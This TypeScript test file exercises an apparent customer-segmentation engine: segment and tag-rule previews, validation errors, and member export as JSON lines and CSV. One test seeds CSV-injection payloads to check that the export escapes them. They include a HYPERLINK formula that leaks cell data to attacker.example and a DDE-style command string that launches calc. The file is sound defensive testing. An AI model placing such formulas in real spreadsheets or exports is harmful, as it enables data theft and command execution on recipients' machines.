import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { DEMO_WORKSPACE } from '../../cli/config.ts';
import { KEYS, startTestEngine, type TestEngine } from '../../dev/engine.ts';

const iso = (daysAgo: number) => new Date(Date.now() - daysAgo * 86_400_000).toISOString();

describe('segment preview and membership export', () => {
  let t: TestEngine;
  before(async () => {
    t = await startTestEngine({ workspaceDir: DEMO_WORKSPACE });
    const batch = [];
    for (let u = 0; u < 30; u++) {
      batch.push({
        type: 'identify',
        userId: `p-${u}`,
        traits: { email: `p${u}@example.com`, city: u % 3 ? 'Beijing' : 'Shanghai' },
        timestamp: iso(3),
      });
      for (let n = 0; n < u % 5; n++) {
        batch.push({
          type: 'track',
          userId: `p-${u}`,
          event: 'cart_add',
          properties: { cartId: `c${u}-${n}`, price: 10 },
          timestamp: iso(2),
        });
      }
      if (u % 4 === 0) {
        batch.push({
          type: 'track',
          userId: `p-${u}`,
          event: 'order_paid',
          properties: { orderId: `o${u}`, amount: 1500 },
          timestamp: iso(1),
        });
      }
    }
    assert.equal((await t.request('POST', '/v1/batch', { body: { batch } })).status, 200);
    await t.settle();
  });
  after(() => t.close());

  it("previews a condition nothing keeps yet, counting from each user's stored history", async () => {
    // Users with 3 or more cart adds: u % 5 in {3, 4} -> 12 of 30. No published rule counts cart_add.
    const res = await t.request('POST', '/v1/segments/preview', {
      key: KEYS.read,
      body: {
        condition: {
          all: [
            {
              fact: 'aggregate',
              params: { event: 'cart_add', fn: 'count' },
              operator: 'greaterThanInclusive',
              value: 3,
            },
          ],
        },
        limit: 5,
      },
    });
    assert.equal(res.status, 200, JSON.stringify(res.body));
    assert.equal(res.body.scanned, 30);
    assert.equal(res.body.count, 12);
    assert.equal(res.body.sample.length, 5);
    // Traits and an aggregate the demo workspace already keeps (order_paid sum over 90 days).
    const both = await t.request('POST', '/v1/segments/preview', {
      key: KEYS.read,
      body: {
        condition: {
          all: [
            { fact: 'profile', path: '$.traits.city', operator: 'equal', value: 'Shanghai' },
            {
              fact: 'aggregate',
              params: { event: 'order_paid', fn: 'sum', property: 'amount', within: 'P90D' },
              operator: 'greaterThan',
              value: 1000,
            },
          ],
        },
      },
    });
    // u % 3 == 0 and u % 4 == 0: 0, 12, 24.
    assert.equal(both.body.count, 3);
  });

  it('rejects an invalid preview with pointers', async () => {
    const res = await t.request('POST', '/v1/segments/preview', {
      key: KEYS.read,
      body: {
        condition: { all: [{ fact: 'event', path: '$.name', operator: 'equal', value: 'x' }] },
        limit: 1000,
      },
    });
    assert.equal(res.status, 400);
    assert.deepEqual(res.body.errors.map((e: { pointer: string }) => e.pointer).sort(), [
      '/condition/all/0/fact',
      '/limit',
    ]);
  });

  it('exports the members of a live segment as JSON lines and CSV', async () => {
    const jsonl = await fetch(`${t.url}/v1/segments/high_value_buyers/members`, {
      headers: { authorization: `Basic ${Buffer.from(`${KEYS.read}:`).toString('base64')}` },
    });
    assert.equal(jsonl.status, 200);
    assert.match(jsonl.headers.get('content-type') ?? '', /ndjson/);
    const rows = (await jsonl.text())
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l));
    assert.deepEqual(rows.map((r) => r.userId).sort(), [
      'p-0',
      'p-12',
      'p-16',
      'p-20',
      'p-24',
      'p-28',
      'p-4',
      'p-8',
    ]);
    assert.equal(rows.find((r) => r.userId === 'p-4').email, 'p4@example.com');

    const csv = await fetch(`${t.url}/v1/segments/high_value_buyers/members?format=csv`, {
      headers: { authorization: `Basic ${Buffer.from(`${KEYS.read}:`).toString('base64')}` },
    });
    const lines = (await csv.text()).trim().split('\n');
    assert.equal(lines[0], 'user_id,anonymous_ids,email,phone,lifecycle');
    assert.equal(lines.length, 9);
    assert.ok(lines.includes('p-4,,p4@example.com,,active'), lines.join('\n'));
    assert.equal((await t.request('GET', '/v1/segments/nope/members')).status, 404);
  });

  it('escapes formulas in the CSV, and reads only the segment members from the store', async () => {
    const evil = '=HYPERLINK("http://attacker.example/?leak="&A2,"Click")';
    const batch = [
      {
        type: 'identify',
        userId: evil,
        traits: { email: '+cmd|" /C calc"!A0', phone: '@SUM(1+1)' },
        timestamp: iso(1),
      },
      {
        type: 'track',
        userId: evil,
        event: 'order_paid',
        properties: { orderId: 'evil-1', amount: 1500 },
        timestamp: iso(1),
      },
    ];
    assert.equal((await t.request('POST', '/v1/batch', { body: { batch } })).status, 200);
    await t.settle();
    const store = t.engine.store;
    const scan = store.scanProfiles.bind(store);
    const filters: unknown[] = [];
    store.scanProfiles = (cursor, limit, filter) => {
      filters.push(filter);
      return scan(cursor, limit, filter);
    };
    try {
      const csv = await fetch(`${t.url}/v1/segments/high_value_buyers/members?format=csv`, {
        headers: { authorization: `Basic ${Buffer.from(`${KEYS.read}:`).toString('base64')}` },
      });
      const text = await csv.text();
      assert.ok(
        text.includes(
          `"'=HYPERLINK(""http://attacker.example/?leak=""&A2,""Click"")",,"'+cmd|"" /C calc""!A0",'@SUM(1+1),active`,
        ),
        text,
      );
      for (const line of text.trim().split('\n')) assert.doesNotMatch(line, /(^|,)"?[=+@-]/, line);
      assert.ok(filters.length > 0);
      for (const filter of filters) assert.deepEqual(filter, { segment: 'high_value_buyers' });
    } finally {
      store.scanProfiles = scan;
    }
  });

  it('previews a tag rule: users for whom one of their stored events satisfies it', async () => {
    const rule = (amount: number) => ({
      conditions: {
        all: [
          { fact: 'event', path: '$.name', operator: 'equal', value: 'order_paid' },
          { fact: 'event', path: '$.properties.amount', operator: 'greaterThanInclusive', value: amount },
        ],
      },
      limit: 3,
    });
    // order_paid of 1,500 for every fourth user (p-0, p-4, ... p-28) and the CSV test's user.
    const some = await t.request('POST', '/v1/tag-rules/preview', { key: KEYS.read, body: rule(1000) });
    assert.equal(some.status, 200, JSON.stringify(some.body));
    assert.equal(some.body.count, 9);
    assert.equal(some.body.sample.length, 3);
    const none = await t.request('POST', '/v1/tag-rules/preview', { key: KEYS.read, body: rule(2000) });
    assert.equal(none.body.count, 0);
    const bad = await t.request('POST', '/v1/tag-rules/preview', {
      key: KEYS.read,
      body: { conditions: { all: [{ fact: 'event', path: '$.name', operator: 'equals', value: 'x' }] } },
    });
    assert.equal(bad.status, 400);
    assert.equal(bad.body.errors[0].pointer, '/conditions/all/0/operator');
  });

  it('samples members by id and name, and says which are anonymous visitors', async () => {
    const batch = [
      { type: 'identify', userId: 'hz-1', traits: { name: 'Han Meimei', city: 'Hangzhou' } },
      { type: 'identify', anonymousId: 'anon-hz', traits: { city: 'Hangzhou' } },
    ];
    assert.equal((await t.request('POST', '/v1/batch', { body: { batch } })).status, 200);
    await t.settle();
    const res = await t.request('POST', '/v1/segments/preview', {
      key: KEYS.read,
      body: {
        condition: {
          all: [{ fact: 'profile', path: '$.traits.city', operator: 'equal', value: 'Hangzhou' }],
        },
      },
    });
    assert.equal(res.status, 200, JSON.stringify(res.body));
    assert.equal(res.body.count, 2);
    const byId = (a: { userId: string | null }, b: { userId: string | null }) =>
      String(a.userId).localeCompare(String(b.userId));
    assert.deepEqual(
      res.body.sample.sort(byId),
      [
        { userId: 'hz-1', anonymousId: null, anonymousIds: [], name: 'Han Meimei', anonymous: false },
        { userId: null, anonymousId: 'anon-hz', anonymousIds: [], name: null, anonymous: true },
      ].sort(byId),
    );
  });
});
